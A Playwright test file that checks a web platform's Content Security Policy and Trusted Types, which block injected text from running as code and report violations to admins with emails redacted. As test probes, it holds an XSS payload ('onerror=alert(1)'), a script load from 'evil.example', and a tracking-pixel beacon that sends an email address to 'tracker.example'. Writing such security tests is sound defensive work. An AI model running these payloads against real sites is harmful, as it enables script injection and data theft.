import { expect, test, type Page } from '@playwright/test';
import { ADMIN } from '../test-stacks.ts';
import { runningPlatform, until } from '../platform.ts';
import { person } from './person.ts';

const platform = runningPlatform();

/** Collects violations from the page's own events. */
async function collectViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const violations: string[] = [];
    Object.assign(window, { violations });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
      violations.push(`${effectiveDirective} ${blockedURI} ${sample}`);
    });
  });
  return () => page.evaluate(() => (window as unknown as { violations: string[] }).violations);
}

/** Tries ways to turn injected text into code. Returns their outcomes. */
function attack(page: Page): Promise<Record<string, string>> {
  return page.evaluate(() => {
    const outcomeOf = (inject: () => void) => {
      try {
        inject();
        return 'done';
      } catch (error) {
        return (error as Error).name;
      }
    };
    const script = document.createElement('script');
    return {
      html: outcomeOf(() => (document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>')),
      frame: outcomeOf(() => (document.createElement('iframe').srcdoc = '<p>text</p>')),
      document: outcomeOf(() => void new DOMParser().parseFromString('<p>text</p>', 'text/html')),
      foreignScript: outcomeOf(() => (script.src = 'https://evil.example/a.js')),
      ownUpload: outcomeOf(() => (script.src = '/api/logos/a.svg')),
      code: outcomeOf(() => (script.text = 'alert(1)')),
      policy: outcomeOf(() => {
        const factory = Reflect.get(window, 'trustedTypes') as {
          createPolicy: (name: string, rules: object) => void;
        };
        factory.createPolicy('x', {});
      }),
      plainText: outcomeOf(() => (document.createElement('div').innerHTML = 'no element')),
      ownScript: outcomeOf(() => (script.src = '/assets/mfe-admin/1.0.0/x.js')),
    };
  });
}
const HELD = {
  html: 'TypeError',
  frame: 'TypeError',
  document: 'TypeError',
  foreignScript: 'TypeError',
  ownUpload: 'TypeError',
  code: 'TypeError',
  policy: 'TypeError',
  plainText: 'done',
  ownScript: 'done',
};

test('pages execute no text as code, work under that rule, and report violations to admins', async ({
  page,
}) => {
  const violations = await collectViolations(page);
  const go = (path: string) => page.goto(platform.publicUrl + path);
  await go('/');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  // Navigation inside one document adds structured data and chunks by script.
  await page
    .getByRole('contentinfo')
    .getByRole('link', { name: /support/i })
    .first()
    .click();
  await expect(page).toHaveURL(/\/support/);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(await violations()).toEqual([]);

  const admin = person(platform);
  await admin.signIn(ADMIN.username, ADMIN.password);
  const [name = '', value = ''] = admin.cookie().split('=');
  await page.context().addCookies([{ name, value, url: platform.publicUrl }]);
  await go('/admin/selectors');
  await page.getByLabel('HTML of a profile page').fill('<html><body><h1>Ann</h1></body></html>');
  await expect(page.getByRole('list', { name: 'Fields found' })).toBeVisible();
  await go('/admin/releases');
  await expect(page.getByRole('heading', { name: 'Releases', exact: true })).toBeVisible();
  await expect(page.getByRole('heading', { name: 'Blocked by the security policy' })).toBeVisible();
  expect(await violations()).toEqual([]);

  for (const path of ['/admin/releases', '/support', '/']) {
    await go(path);
    await expect(page.getByRole('heading').first()).toBeVisible();
    expect({ path, ...(await attack(page)) }).toEqual({ path, ...HELD });
  }
  await go('/support');
  await page.evaluate(
    () => void (new Image().src = 'https://tracker.example/pixel.gif?email=anna@example.com'),
  );

  const listed = await until('the violations are listed', async () => {
    const { violations: all } = await admin.call<{ violations: Record<string, string>[] }>(
      '/api/admin/releases/violations',
    );
    const sink = all.find((each) => each.sink === 'Element innerHTML' && each.page === '/support');
    return all.some(({ blocked }) => blocked === 'https://tracker.example') && sink && all;
  });
  expect(JSON.stringify(listed)).not.toContain('anna@');
  await go('/admin/releases');
  const table = page.getByRole('region', { name: 'Blocked by the security policy' });
  await expect(table.getByRole('row', { name: /img-src https:\/\/tracker\.example/ })).toBeVisible();
});
